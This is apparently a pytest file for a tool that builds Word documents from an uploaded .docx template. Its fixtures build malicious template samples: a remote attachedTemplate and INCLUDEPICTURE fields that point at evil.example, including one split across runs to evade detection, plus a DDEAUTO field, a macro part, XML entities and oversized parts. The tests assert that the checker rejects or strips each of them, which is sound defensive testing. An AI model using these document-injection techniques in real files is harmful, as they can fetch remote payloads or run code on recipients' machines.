import io
import re
from base64 import b64decode
from zipfile import ZIP_DEFLATED, ZipFile

import pytest

from roadmaps.foundation.errors import Invalid
from roadmaps.papers import word
from roadmaps.papers.word import templates
from roadmaps.papers.word.names import W
from tests.papers.samples import a_paper
from tests.papers.soundness import faults_of, told_of
from tests.papers.spoken import swedish_words

VALUE = W("w:val")
PICTURE = b64decode("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==")
_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml"
_HEAD = (
    f'<w:hdr {_W} xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><w:p><w:r><w:t>Region Exempel</w:t></w:r>'
    '<w:r><w:drawing><a:blip r:embed="rId1"/></w:drawing></w:r></w:p></w:hdr>'
)
STYLES = (
    f'<w:styles {_W}><w:docDefaults><w:rPrDefault><w:rPr><w:rFonts w:ascii="Garamond" w:hAnsi="Garamond"/>'
    '<w:lang w:val="en-US"/></w:rPr></w:rPrDefault></w:docDefaults>'
    '<w:style w:type="paragraph" w:default="1" w:styleId="Normal"><w:name w:val="Normal"/></w:style>'
    '<w:style w:type="paragraph" w:styleId="Brdtext"><w:name w:val="Body Text"/><w:basedOn w:val="Normal"/></w:style>'
    '<w:style w:type="paragraph" w:styleId="Rubrik1"><w:name w:val="heading 1"/><w:basedOn w:val="Normal"/>'
    '<w:pPr><w:outlineLvl w:val="0"/></w:pPr><w:rPr><w:color w:val="AA0000"/><w:lang w:val="en-US"/></w:rPr></w:style>'
    '<w:style w:type="paragraph" w:styleId="Lead"><w:name w:val="Something else"/></w:style></w:styles>'
)


def a_template(**changed):
    """A small region's own document: Swedish names of styles, a head with a picture, a page with wide margins."""
    relation = '<Relationship Id="{}" Type="{}/{}" Target="{}"{}/>'
    relations = "".join(
        (
            relation.format("rId1", _OFFICE, "styles", "styles.xml", ""),
            relation.format("rId7", _OFFICE, "header", "header1.xml", ""),
            relation.format("rId8", _OFFICE, "settings", "settings.xml", ""),
        )
    )
    parts = {
        "[Content_Types].xml": '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="xml" ContentType="application/xml"/><Default Extension="png" ContentType="image/png"/>'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        f'<Override PartName="/word/document.xml" ContentType="{_WORD}.document.main+xml"/></Types>',
        "_rels/.rels": _related(relation.format("rId1", _OFFICE, "officeDocument", "word/document.xml", "")),
        "word/document.xml": f"<w:document {_W}><w:body><w:p><w:r><w:t>Hemlig text</w:t></w:r></w:p><w:sectPr>"
        '<w:headerReference w:type="default" r:id="rId7"/><w:pgSz w:w="11906" w:h="16838"/>'
        '<w:pgMar w:top="2000" w:right="2000" w:bottom="2000" w:left="2000" w:header="700" w:footer="700"/>'
        "</w:sectPr></w:body></w:document>",
        "word/_rels/document.xml.rels": _related(relations),
        "word/styles.xml": STYLES,
        "word/settings.xml": f'<w:settings {_W}><w:attachedTemplate r:id="rId1"/></w:settings>',
        "word/_rels/settings.xml.rels": _related(
            relation.format("rId1", _OFFICE, "attachedTemplate", "http://evil.example/x.dotm", ' TargetMode="External"')
        ),
        "word/header1.xml": _HEAD,
        "word/_rels/header1.xml.rels": _related(relation.format("rId1", _OFFICE, "image", "media/image1.png", "")),
        "word/media/image1.png": PICTURE,
    }
    parts |= changed
    held = io.BytesIO()
    with ZipFile(held, "w", ZIP_DEFLATED) as archive:
        for name, part in parts.items():
            if part is not None:
                archive.writestr(name, part)
    return held.getvalue()


def _related(inside):
    return (
        f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{inside}</Relationships>'
    )


def a_head(inside):
    return a_template(**{"word/header1.xml": f"<w:hdr {_W}><w:p><w:r>{inside}</w:r></w:p></w:hdr>"})


@pytest.fixture(scope="module")
def written():
    return word.write(a_paper(), swedish_words(), template=a_template())


def test_a_paper_in_the_region_s_styles_is_sound(written):
    assert faults_of(written) == []


def test_headings_have_the_region_s_style_under_its_own_name(written):
    told = told_of(written)
    headings = [
        one.find(f"{W('w:pPr')}/{W('w:pStyle')}").get(VALUE)
        for one in told.document.iter(W("w:p"))
        if "Ansvarsfördelning" in "".join(text.text or "" for text in one.iter(W("w:t")))
    ]

    assert headings == ["TOC1", "Rubrik1"]
    assert b"AA0000" in told.parts["word/styles.xml"]
    assert b"Garamond" in told.parts["word/styles.xml"]


def test_styles_that_the_region_lacks_are_added_and_build_on_its_own(written):
    told = told_of(written)
    styles = {one.find(W("w:name")).get(VALUE): one for one in told.xml("word/styles.xml").findall(W("w:style"))}

    # The id was taken by a style of theirs.
    assert styles["Lead"].get(W("w:styleId")) == "RoadmapLead"
    assert styles["Lead"].find(W("w:basedOn")).get(VALUE) == "Brdtext"
    assert styles["Something else"].get(W("w:styleId")) == "Lead"
    assert styles["Heading 1 Unlisted"].find(W("w:basedOn")).get(VALUE) == "Rubrik1"


def test_everything_is_in_the_language_of_the_paper(written):
    languages = set(re.findall(rb'w:lang [^>]*w:val="([^"]+)"', told_of(written).parts["word/styles.xml"]))

    assert languages == {b"sv-SE"}


def test_the_region_s_head_and_page_are_kept_and_its_text_is_not(written):
    told = told_of(written)
    heads = [name for name in told.parts if name.startswith("word/header")]

    assert len(heads) == 1
    assert "Region Exempel" in told.parts[heads[0]].decode()
    assert PICTURE in told.parts.values()
    assert {one.get(W("w:left")) for one in told.document.iter(W("w:pgMar"))} == {"2000"}
    assert b"Hemlig text" not in told.parts["word/document.xml"]
    # It has no foot of its own, so pages are numbered as usual.
    assert any(b"NUMPAGES" in part for name, part in told.parts.items() if name.startswith("word/footer"))


def test_nothing_of_the_template_leads_elsewhere(written):
    assert not any(b"evil.example" in part for part in told_of(written).parts.values())


def test_the_same_template_gives_the_same_bytes(written):
    assert word.write(a_paper(), swedish_words(), template=a_template()) == written


def test_a_file_of_our_own_can_be_the_template():
    own = word.write(a_paper(), swedish_words())

    assert faults_of(word.write(a_paper(), swedish_words(), template=own)) == []


@pytest.mark.parametrize(
    "data",
    [
        pytest.param(b"", id="nothing"),
        pytest.param(b"PK\x03\x04 broken", id="half an archive"),
        pytest.param(b"%PDF-1.7", id="a PDF"),
        pytest.param(a_template(**{"word/styles.xml": None}), id="no styles"),
        pytest.param(a_template(**{"word/styles.xml": "<w:styles"}), id="broken styles"),
        pytest.param(
            a_template(**{"word/styles.xml": '<!DOCTYPE x [<!ENTITY a "b">]>' + STYLES}), id="styles with entities"
        ),
        pytest.param(a_template(**{"word/vbaProject.bin": b"x"}), id="macros"),
        pytest.param(
            a_template(**{"[Content_Types].xml": '<Types><Override ContentType="macroEnabled.main+xml"/></Types>'}),
            id="called a file with macros",
        ),
        pytest.param(a_template(**{"word/theme/theme1.xml": " " * 5_000_000}), id="an enormous theme"),
        pytest.param(a_template(**{"word/styles.xml": STYLES + " " * 30_000_000}), id="bursts"),
        pytest.param(a_head("<w:instrText> INCLUDEPICTURE http://evil.example/x.png </w:instrText>"), id="fetches"),
        pytest.param(a_head("<w:instrText>DDEAUTO c:\\x</w:instrText>"), id="runs"),
        pytest.param(a_head("<w:object/>"), id="an object"),
        pytest.param(
            a_template(
                **{
                    "word/_rels/header1.xml.rels": _related(
                        f'<Relationship Id="rId1" Type="{_OFFICE}/image" Target="http://evil.example/x.png" TargetMode="External"/>'
                    )
                }
            ),
            id="a picture from elsewhere",
        ),
        pytest.param(
            a_template(**{"word/document.xml": '<w:document xmlns:w="http://purl.oclc.org/ooxml/x"/>'}), id="strict"
        ),
    ],
)
def test_what_cannot_be_a_template_is_refused_with_a_sentence(data):
    with pytest.raises(Invalid):
        templates.check(data)


def test_a_field_cannot_be_hidden_by_being_told_in_pieces():
    data = a_head(
        "<w:instrText>INCL</w:instrText></w:r><w:r><w:instrText>UDEPICTURE http://evil.example/</w:instrText>"
    )

    with pytest.raises(Invalid):
        templates.check(data)


def test_the_names_of_styles_may_be_written_in_large_letters():
    styles = STYLES.replace('"heading 1"', '"Heading 1"').replace(
        "</w:styles>", '<w:style w:type="paragraph" w:styleId="Inneh"><w:name w:val="TOC 1"/></w:style></w:styles>'
    )

    data = word.write(a_paper(), swedish_words(), template=a_template(**{"word/styles.xml": styles}))

    assert faults_of(data) == []
    used = {one.get(VALUE) for one in told_of(data).document.iter(W("w:pStyle"))}
    assert {"Inneh", "Rubrik1"} <= used


def test_what_is_called_by_a_prefix_that_is_lost_does_not_stay():
    mc = 'xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"'
    old = "<mc:Fallback><w:t>gammalt</w:t></mc:Fallback>"
    head = (
        f'<w:hdr {_W} {mc} xmlns:new="urn:new" mc:Ignorable="new"><w:p><w:r><mc:AlternateContent>'
        f'<mc:Choice Requires="new"><new:thing/></mc:Choice>{old}</mc:AlternateContent></w:r></w:p></w:hdr>'
    )
    styles = STYLES.replace("<w:styles ", f'<w:styles {mc} xmlns:w16="urn:w16" mc:Ignorable="w16" ')

    data = word.write(
        a_paper(), swedish_words(), template=a_template(**{"word/header1.xml": head, "word/styles.xml": styles})
    )

    assert faults_of(data) == []
    told = told_of(data)
    assert b"Ignorable" not in told.parts["word/styles.xml"]
    heads = [part for name, part in told.parts.items() if name.startswith("word/header")]
    assert "gammalt" in heads[0].decode()
    assert b"Requires" not in heads[0]


def test_a_page_that_leaves_no_room_for_text_is_not_taken():
    margins = '<w:pgMar w:top="1" w:right="9000" w:bottom="1" w:left="9000" w:header="1" w:footer="1"/>'
    body = f'<w:document {_W}><w:body><w:sectPr><w:pgSz w:w="11906" w:h="16838"/>{margins}</w:sectPr></w:body></w:document>'

    written = word.write(a_paper(), swedish_words(), template=a_template(**{"word/document.xml": body}))

    assert {one.get(W("w:left")) for one in told_of(written).document.iter(W("w:pgMar"))} == {"1417"}
